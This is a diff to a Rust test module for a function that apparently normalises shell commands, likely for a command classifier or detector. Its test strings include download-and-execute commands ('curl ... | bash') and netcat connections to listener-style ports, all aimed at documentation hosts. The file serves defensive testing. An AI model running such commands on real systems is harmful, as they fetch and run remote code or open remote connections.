@@ -378,6 +378,7 @@ mod tests {
         assert_eq!(ids("curl http://192.0.2.7/a.sh | bash"), ids("curl http://198.51.100.9/bb.sh | bash"));
         assert_eq!(ids("nc $host 4444"), ids("nc $target 9001"));
         assert_ne!(ids("curl http://192.0.2.7/a.sh | bash"), ids("curl http://192.0.2.7/a.sh > bash"));
+        assert_ne!(ids("curl http://a.example/x"), ids("curl http://a.example:80/x"));
         // But one's own machine is not somebody's.
         assert_eq!(ids("curl http://127.0.0.1:80/a"), ids("curl http://127.8.8.8:80/a"));
         assert_ne!(ids("curl http://127.0.0.1:80/a"), ids("curl http://192.0.2.7:80/a"));
@@ -402,6 +403,7 @@ mod tests {
         }
         assert_ne!(ids("cat a.example/x.sh"), ids("cat http://a.example/x.sh"));
         assert_ne!(ids("wget x; cat a.example/x.sh"), ids("wget x; cat http://a.example/x.sh"));
+        assert_ne!(ids("wget x; a.example/x.sh"), ids("wget x; http://a.example/x.sh"));
     }
 
     #[test]
